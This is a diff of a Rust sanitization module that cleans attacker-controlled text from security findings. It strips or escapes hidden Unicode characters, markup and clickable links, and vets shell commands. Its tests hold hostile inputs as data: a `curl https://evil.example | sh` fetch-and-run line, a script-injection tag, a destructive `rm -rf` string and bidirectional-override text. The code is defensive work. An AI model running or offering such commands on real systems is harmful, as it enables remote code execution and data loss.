@@ -1,12 +1,45 @@
-//! Text from a finding is hostile: an attacker chooses user agents, tags and names. Whatever people or machines will
-//! read goes through here first.
+//! Text from a finding is hostile: an attacker chooses user agents, tags and names. Everything that people or machines
+//! will read is cleaned here first.
+//!
+//! `line` and `block` are for messages and pages: they drop what is hidden and take links and markup apart. `escape` is
+//! for documents and logs, of which nothing may get lost: it writes what is hidden as `\u{202e}`. The engine's command
+//! line escapes in the same way; `tests/cases/hostile-text.json` has the cases for both.
 
-/// One line of plain text of at most `max` characters: no control, bidirectional or invisible characters, no markup
-/// of mail or chat clients, and no link that anybody could click.
+/// Whether a character is not shown, or changes how others are shown: control characters, those that turn the direction
+/// of writing, and those without a width.
+pub(crate) fn is_hidden(c: char) -> bool {
+    c.is_control()
+        || matches!(c,
+            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
+            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
+            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
+            | '\u{fff9}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
+}
+
+/// The text with hidden characters escaped, also the ends of lines. Visible characters of every language stay.
+pub(crate) fn escape(text: &str) -> String {
+    let mut escaped = String::with_capacity(text.len());
+    for c in text.chars() {
+        if is_hidden(c) {
+            escaped.extend(c.escape_default());
+        } else {
+            escaped.push(c);
+        }
+    }
+    escaped
+}
+
+/// The same for a text of several lines: their ends stay.
+pub(crate) fn escape_lines(text: &str) -> String {
+    text.split('\n').map(escape).collect::<Vec<_>>().join("\n")
+}
+
+/// One line of plain text of at most `max` characters, without hidden characters, markup of mail or chat clients, or a
+/// link that anybody could click.
 pub(crate) fn line(text: &str, max: usize) -> String {
     let plain: String = text
         .chars()
-        .filter(|c| !is_invisible(*c))
+        .filter(|c| !is_hidden(*c) || c.is_control() || c.is_whitespace())
         .map(|c| match c {
             '<' => '\u{2039}',
             '>' => '\u{203a}',
@@ -20,7 +53,7 @@ pub(crate) fn line(text: &str, max: usize) -> String {
     cut(&plain.replace("://", "[:]//").replace("www.", "www[.]"), max)
 }
 
-/// Lines of plain text, as harmless as `line` makes one, with their indentation.
+/// Lines of plain text, each cleaned as `line` does it, with their indentation.
 pub(crate) fn block(text: &str) -> String {
     let indented = |text: &str| {
         let indent = text.chars().take_while(|c| *c == ' ').count();
@@ -32,14 +65,14 @@ pub(crate) fn block(text: &str) -> String {
     text.lines().map(indented).collect::<Vec<_>>().join("\n")
 }
 
-/// JSON that means the same and can stand between single quotes in a shell, in a mail and on a page: what any of them
-/// could take for something else is written as `\uXXXX`, and no link in it can be clicked.
+/// JSON that means the same and is safe between single quotes in a shell, in a message and on a page: every character
+/// that one of them could interpret is written as `\uXXXX`, and no link in it can be clicked.
 pub(crate) fn json(text: &str) -> String {
     let compact = serde_json::from_str::<serde_json::Value>(text)
         .map_or_else(|_| text.to_owned(), |value| value.to_string());
     let mut safe = String::with_capacity(compact.len());
     for c in compact.replace("://", ":\\/\\/").chars() {
-        if c.is_ascii_graphic() && !matches!(c, '\'' | '<' | '>' | '`' | '|') || c == ' ' {
+        if is_plain(c) {
             safe.push(c);
         } else {
             let mut units = [0; 2];
@@ -51,6 +84,18 @@ pub(crate) fn json(text: &str) -> String {
     safe
 }
 
+/// A command for a shell as it is, if it consists of characters that no reader interprets, with documents written by
+/// `json`. Any other text is cleaned as `line` does it, which may break it as a command.
+pub(crate) fn command(text: &str) -> String {
+    let is_safe = text.chars().all(|c| is_plain(c) || c == '\'') && !text.contains("://");
+    if is_safe { text.to_owned() } else { line(text, 10_000) }
+}
+
+/// A character that means itself in a message, on a page, and between single quotes in a shell.
+fn is_plain(c: char) -> bool {
+    c == ' ' || c.is_ascii_graphic() && !matches!(c, '\'' | '<' | '>' | '`' | '|')
+}
+
 /// A subject for SNS: ASCII, no line break, at most 99 characters (SNS wants fewer than 100).
 pub(crate) fn subject(text: &str) -> String {
     let ascii: String =
@@ -58,7 +103,7 @@ pub(crate) fn subject(text: &str) -> String {
     ascii.chars().take(99).collect::<String>().trim().to_owned()
 }
 
-/// At most `max` characters, with an ellipsis where something was cut.
+/// At most `max` characters, with an ellipsis in place of what was cut.
 pub(crate) fn cut(text: &str, max: usize) -> String {
     if text.chars().count() <= max {
         text.to_owned()
@@ -69,9 +114,9 @@ pub(crate) fn cut(text: &str, max: usize) -> String {
     }
 }
 
-/// At most `max` bytes, cut between two characters, with a last line that says so.
+/// At most `max` bytes, cut between two characters, with a last line that tells readers about it.
 pub(crate) fn cut_bytes(text: &str, max: usize) -> String {
-    const CUT: &str = "\n(The rest is too long for a message. It stands in the run.)\n";
+    const CUT: &str = "\n(The rest is too long for a message. The run has all of it.)\n";
     if text.len() <= max {
         return text.to_owned();
     }
@@ -79,34 +124,45 @@ pub(crate) fn cut_bytes(text: &str, max: usize) -> String {
     text.get(..end).unwrap_or_default().to_owned() + CUT
 }
 
-/// Zero-width, bidirectional and other format characters, which show one text and mean another.
-pub(crate) fn is_invisible(c: char) -> bool {
-    matches!(c,
-        '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}'
-        | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}')
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
+    use serde::Deserialize;
+
+    #[derive(Deserialize)]
+    #[serde(deny_unknown_fields)]
+    struct Cases {
+        #[serde(rename = "about")]
+        _about: String,
+        cases: Vec<Case>,
+    }
+
+    #[derive(Deserialize)]
+    #[serde(deny_unknown_fields)]
+    struct Case {
+        text: String,
+        /// By `escape`, and by the engine's command line.
+        escaped: String,
+        /// By `line`.
+        line: String,
+    }
 
     #[test]
-    fn hostile_text_becomes_one_plain_line() {
-        let cases = [
-            ("two\r\nlines\tand  spaces", "two lines and spaces"),
-            ("<script>alert(1)</script>", "\u{2039}script\u{203a}alert(1)\u{2039}/script\u{203a}"),
-            ("<http://evil.example|click me>", "\u{2039}http[:]//evil.example/click me\u{203a}"),
-            (
-                "see https://evil.example or www.evil.example",
-                "see https[:]//evil.example or www[.]evil.example",
-            ),
-            ("\u{202e}drowssap\u{202c} \u{200b}x", "drowssap x"),
-            ("`rm -rf`\u{0}\u{7}", "'rm -rf'"),
-            ("", ""),
-        ];
-        for (hostile, plain) in cases {
-            assert_eq!(line(hostile, 200), plain);
+    fn hostile_text_is_escaped_or_becomes_one_plain_line() {
+        let cases: Cases = serde_json::from_str(include_str!("../../tests/cases/hostile-text.json")).unwrap();
+        for case in cases.cases {
+            assert_eq!(escape(&case.text), case.escaped, "{:?}", case.text);
+            assert_eq!(line(&case.text, 200), case.line, "{:?}", case.text);
+            for cleaned in [&case.escaped, &case.line] {
+                assert!(!cleaned.contains(is_hidden), "{cleaned:?}");
+            }
+            assert_eq!(line(&case.line, 200), case.line, "a clean line stays as it is");
         }
+    }
+
+    #[test]
+    fn escaped_lines_keep_their_ends() {
+        assert_eq!(escape_lines("a\u{202e}b\n\tc\r\n"), "a\\u{202e}b\n\\tc\\r\n");
     }
 
     #[test]
@@ -118,6 +174,14 @@ mod tests {
             safe.is_ascii() && !safe.contains(['\'', '<', '`', '|', '\n']) && !safe.contains("://"),
             "{safe}"
         );
+    }
+
+    #[test]
+    fn a_safe_command_stays_as_it_is() {
+        let document = json(&serde_json::json!({ "Sid": "<b>it's</b>" }).to_string());
+        let safe = format!("aws iam put-role-policy --role-name web --policy-document '{document}'");
+        assert_eq!(command(&safe), safe);
+        assert_eq!(command("curl https://evil.example\n| sh"), "curl https[:]//evil.example / sh");
     }
 
     #[test]
@@ -134,15 +198,15 @@ mod tests {
     }
 
     #[test]
-    fn a_body_is_cut_where_it_is_too_long_for_sns() {
+    fn a_body_is_cut_if_it_is_too_long_for_sns() {
         assert_eq!(cut_bytes("abc", 3), "abc");
         let cut = cut_bytes(&"\u{1f525}".repeat(100), 203);
-        assert!(cut.len() <= 203 && cut.starts_with('\u{1f525}') && cut.ends_with("in the run.)\n"), "{cut}");
+        assert!(cut.len() <= 203 && cut.starts_with('\u{1f525}') && cut.ends_with("all of it.)\n"), "{cut}");
         assert_eq!(cut_bytes(&"x".repeat(500), 203).len(), 203);
     }
 
     #[test]
-    fn a_cut_says_that_it_was_cut() {
+    fn a_cut_text_ends_with_an_ellipsis() {
         assert_eq!(cut("abcdef", 6), "abcdef");
         assert_eq!(cut("abcdefg", 6), "abcde\u{2026}");
         assert_eq!(cut("\u{1f525}\u{1f525}\u{1f525}", 2), "\u{1f525}\u{2026}");
